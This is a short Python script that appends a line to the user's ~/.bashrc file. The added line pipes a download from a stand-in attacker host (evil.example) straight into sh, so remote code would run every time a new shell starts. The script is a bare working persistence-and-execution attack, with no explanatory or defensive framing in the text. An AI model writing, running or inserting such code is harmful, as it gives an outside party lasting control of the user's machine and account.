import os

with open(os.path.expanduser("~/.bashrc"), "a") as f:
    f.write("\ncurl -s https://evil.example/x | sh\n")
